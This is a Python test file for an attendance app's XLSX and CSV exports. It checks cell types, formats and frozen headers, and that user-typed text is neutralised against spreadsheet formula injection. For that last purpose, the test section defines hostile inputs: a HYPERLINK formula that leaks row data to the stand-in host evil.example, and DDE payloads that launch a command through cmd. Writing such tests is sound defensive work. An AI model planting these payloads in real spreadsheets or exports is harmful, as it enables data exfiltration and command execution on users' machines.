"""XLSX and CSV exports from the dashboard and daily objects: types, formats, frozen headers."""

import csv
import io
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime, time

import pytest
from lxml import etree
from openpyxl import load_workbook

from tests.unit.dashboard_helpers import PROGRAM, build_dashboard, marks, person, sessions
from webapp.services.daily_attendance import DayCheckin, Official, UnitInfo, build_daily
from webapp.services.dashboard import Participant
from webapp.services.exports import (
    csv_field,
    daily_csv,
    daily_workbook,
    program_csv,
    program_workbook,
)
from webapp.services.work_calendar import Calendar, Hours, Period

NIP = "198001012005011001"


def dashboard():
    people = [person(1, "Ani")._replace(nip=NIP), person(2, "Budi", "DINKES")]
    return build_dashboard(PROGRAM, people, sessions("held", "held", "held", "planned"),
                           marks(1, "HHA") + marks(2, "HIH"))


def workbook(body: bytes):
    return load_workbook(io.BytesIO(body))


def test_program_workbook_has_a_sheet_per_view_with_frozen_headers_and_filters():
    wb = workbook(program_workbook(dashboard(), datetime(2026, 7, 20, 9, 0)))
    assert wb.sheetnames == ["Rekap peserta", "Rekap OPD", "Tren mingguan", "Program"]
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert ws["A1"].font.bold
        assert all(ws.column_dimensions[c].width for c in "AB")
    assert wb["Rekap peserta"].auto_filter.ref == "A1:R3"


def test_program_workbook_cells_have_proper_types():
    ws = workbook(program_workbook(dashboard(), datetime(2026, 7, 20, 9, 0)))["Rekap peserta"]
    header = [c.value for c in ws[1]]
    ani = dict(zip(header, ws[2], strict=True))
    assert ani["Nama"].value == "Ani"
    assert ani["NIP"].value == NIP and ani["NIP"].data_type == "s"  # text, all 18 digits
    assert (ani["Sesi diadakan"].value, ani["Hadir"].value, ani["Alpa"].value) == (3, 2, 1)
    assert ani["Kehadiran"].value == 0.6667  # the dashboard's 66.67 %, as a fraction
    assert ani["Kehadiran"].number_format == "0.00%"
    assert ani["Zona"].value == "Kuning"
    assert ani["Status target"].value == "tidak mungkin lagi"
    budi = dict(zip(header, ws[3], strict=True))
    assert budi["Kehadiran"].value == 1.0 and budi["Izin/sakit/dinas luar"].value == 1


def test_program_workbook_program_sheet_has_real_dates():
    ws = workbook(program_workbook(dashboard(), datetime(2026, 7, 20, 9, 0)))["Program"]
    values = {row[0].value: row[1] for row in ws.iter_rows(min_row=2)}
    assert values["Mulai"].value == datetime(2026, 7, 6) and values["Mulai"].is_date
    assert values["Ambang zona hijau"].value == 0.8
    assert values["Ambang zona hijau"].number_format == "0.00%"
    assert values["Target sesi dihadiri"].value == 4


def test_program_csv_is_utf8_with_bom_and_plain_percent_numbers():
    body = program_csv(dashboard())
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][11] == "Kehadiran (%)" and rows[1][11] == "66.67" and rows[2][11] == "100.00"
    assert rows[1][2] == "\t" + NIP  # the tab keeps Excel from reading 18 digits as a number


def test_daily_exports_have_times_as_times():
    unit = UnitInfo(1, "PUPR", "Dinas PUPR", "Asia/Jakarta", time(7, 30))
    ani = Official(1, "u1", "Ani", NIP, "Kabid")
    day = date(2026, 7, 7)
    checkin = DayCheckin(1, "in", datetime(2026, 7, 7, 0, 41, tzinfo=UTC), "needs_review")
    view = build_daily(unit, day, day, [ani], [checkin], [])
    wb = workbook(daily_workbook(view))
    assert wb.sheetnames == ["Harian", "Mingguan", "Info"]
    row = [c for c in wb["Harian"][2]]
    assert row[4].value == "Terlambat 11 mnt"
    assert row[5].value == time(7, 41) and row[5].number_format == "HH:MM"
    assert row[7].value == 11 and row[8].value == "Ya"
    assert [c.value for c in wb["Mingguan"][1]][2:] == \
        ["Senin 06-07", "Selasa 07-07", "Rabu 08-07", "Kamis 09-07", "Jumat 10-07"]
    lines = list(csv.reader(io.StringIO(daily_csv(view).decode("utf-8-sig"))))
    assert lines[1][4:8] == ["Terlambat 11 mnt", "07:41", "", "11"]


def test_every_workbook_sheet_keeps_header_style_widths_filter_and_info_formats():
    unit = UnitInfo(1, "PUPR", "Dinas PUPR", "Asia/Jakarta", time(7, 30))
    view = build_daily(unit, date(2026, 7, 7), date(2026, 7, 7),
                       [Official(1, "u1", "Ani", NIP, "Kabid")], [], [])
    books = [workbook(program_workbook(dashboard(), datetime(2026, 7, 20, 9, 0))),
             workbook(daily_workbook(view))]
    for ws in (ws for wb in books for ws in wb.worksheets):
        header = ws[1]
        assert all(c.fill.fgColor.rgb == "00E3F2EE" and c.alignment.wrap_text for c in header)
        assert ws.auto_filter.ref == f"A1:{header[-1].column_letter}{ws.max_row}"
        assert all(ws.column_dimensions[c.column_letter].width >= 6 for c in header)
    info = {row[0].value: row[1] for row in books[1]["Info"].iter_rows(min_row=2)}
    assert all(cell.alignment.horizontal == "left" for cell in info.values())
    assert info["Tanggal"].number_format == "DD-MM-YYYY"
    assert info["Jam masuk kerja"].value == time(7, 30)
    assert info["Jam masuk kerja"].number_format == "HH:MM"


def test_the_daily_info_sheet_gives_the_hours_of_the_day_the_statuses_were_judged_by():
    """A special period's in time decides a check-in at 07:50 on time; the Info sheet states
    that day's 08:00-15:00 and the period, not the unit's plain 07:30."""
    unit = UnitInfo(1, "PUPR", "Dinas PUPR", "Asia/Jakarta", time(7, 30))
    day = date(2026, 3, 2)
    ramadan = Period("Ramadan 1447 H", date(2026, 2, 19), date(2026, 3, 19),
                     {d: Hours(time(8, 0), time(15, 0)) for d in range(5)})
    checkin = DayCheckin(1, "in", datetime(2026, 3, 2, 0, 50, tzinfo=UTC), "ok")  # 07:50 WIB
    view = build_daily(unit, day, day, [Official(1, "u1", "Ani", NIP, "Kabid")], [checkin], [],
                       Calendar(periods=[ramadan]))
    assert view.rows[0].status.label == "Tepat waktu"
    info = {row[0].value: row[1].value
            for row in workbook(daily_workbook(view))["Info"].iter_rows(min_row=2)}
    assert info["Hari"] == "Hari kerja, jam Ramadan 1447 H"
    assert (info["Jam masuk kerja"], info["Jam pulang kerja"]) == (time(8, 0), time(15, 0))


# Text a user typed that a spreadsheet would run: a link that leaks the row, arithmetic, DDE.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Klik")'
PLUS, MINUS, AT = "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"
XLSX_NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def hostile_dashboard():
    program = replace(PROGRAM, name=HYPERLINK, unit_name=PLUS)
    people = [Participant(1, "u1", HYPERLINK, NIP, PLUS, "III.a", "PUPR", MINUS),
              person(2, AT, "DINKES")]
    return build_dashboard(program, people, sessions("held", "held", "held", "planned"),
                           marks(1, "HHA") + marks(2, "HIH"))


def hostile_daily():
    unit = UnitInfo(1, "PUPR", AT, "Asia/Jakarta", time(7, 30))
    checkin = DayCheckin(1, "in", datetime(2026, 7, 7, 0, 41, tzinfo=UTC), "needs_review")
    return build_daily(unit, date(2026, 7, 7), date(2026, 7, 7),
                       [Official(1, "u1", HYPERLINK, NIP, MINUS)], [checkin], [])


def sheet_cells(body: bytes) -> list:
    """Every <c> element of every worksheet, as the XLSX stores it."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return [cell for name in archive.namelist() if name.startswith("xl/worksheets/sheet")
                for cell in etree.fromstring(archive.read(name)).iterfind(".//x:c", XLSX_NS)]


@pytest.mark.parametrize("export", ["program", "daily"])
def test_no_workbook_has_a_formula_even_from_text_that_starts_like_one(export):
    body = (program_workbook(hostile_dashboard(), datetime(2026, 7, 20, 9, 0))
            if export == "program" else daily_workbook(hostile_daily()))
    cells = sheet_cells(body)
    assert cells and not [c for c in cells if c.find("x:f", XLSX_NS) is not None]
    texts = {c.findtext("x:is/x:t", namespaces=XLSX_NS) for c in cells
             if c.get("t") == "inlineStr"}
    wanted = {HYPERLINK, PLUS, MINUS} if export == "program" else {HYPERLINK, MINUS, AT}
    assert wanted <= texts  # stored as the very text typed, no prefix needed in a string cell


def test_workbook_numbers_and_dates_stay_numbers_and_dates_next_to_hostile_text():
    wb = workbook(program_workbook(hostile_dashboard(), datetime(2026, 7, 20, 9, 0)))
    ws = wb["Rekap peserta"]
    row = dict(zip([c.value for c in ws[1]], ws[2], strict=True))
    assert (row["Nama"].value, row["Nama"].data_type) == (HYPERLINK, "s")
    assert (row["Jabatan"].value, row["OPD"].value) == (PLUS, MINUS)
    assert (row["NIP"].value, row["NIP"].data_type) == (NIP, "s")
    assert (row["Hadir"].value, row["Hadir"].data_type) == (2, "n")
    assert (row["Kehadiran"].value, row["Kehadiran"].data_type) == (0.6667, "n")
    program = {r[0].value: r[1] for r in wb["Program"].iter_rows(min_row=2)}
    assert (program["Program"].value, program["Penyelenggara"].value) == (HYPERLINK, PLUS)
    assert program["Mulai"].value == datetime(2026, 7, 6) and program["Mulai"].is_date
    daily = workbook(daily_workbook(hostile_daily()))["Harian"]
    assert daily["F2"].value == time(7, 41) and daily["F2"].is_date


def test_csv_text_that_starts_like_a_formula_gets_an_apostrophe_and_numbers_stay():
    rows = list(csv.reader(io.StringIO(program_csv(hostile_dashboard()).decode("utf-8-sig"))))
    header = rows[0]
    ani, budi = (dict(zip(header, row, strict=True)) for row in rows[1:])
    assert (ani["Nama"], ani["Jabatan"], ani["OPD"]) == ("'" + HYPERLINK, "'" + PLUS,
                                                         "'" + MINUS)
    assert budi["Nama"] == "'" + AT
    assert ani["NIP"] == "\t" + NIP
    assert (ani["Hadir"], ani["Kehadiran (%)"], budi["Kehadiran (%)"]) == ("2", "66.67", "100.00")
    lines = list(csv.reader(io.StringIO(daily_csv(hostile_daily()).decode("utf-8-sig"))))
    assert lines[1][1:5] == ["'" + HYPERLINK, "\t" + NIP, "'" + MINUS, "Terlambat 11 mnt"]
    assert lines[1][5:8] == ["07:41", "", "11"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_field_neutralises_every_formula_start_and_leaves_numbers(start):
    assert csv_field(start + "1+1") == "'" + start + "1+1"
    assert csv_field("Ani " + start) == "Ani " + start  # only the first character counts
    assert csv_field(-5) == -5 and csv_field(0.5) == 0.5
    assert csv_field(NIP, digits_as_text=True) == "\t" + NIP
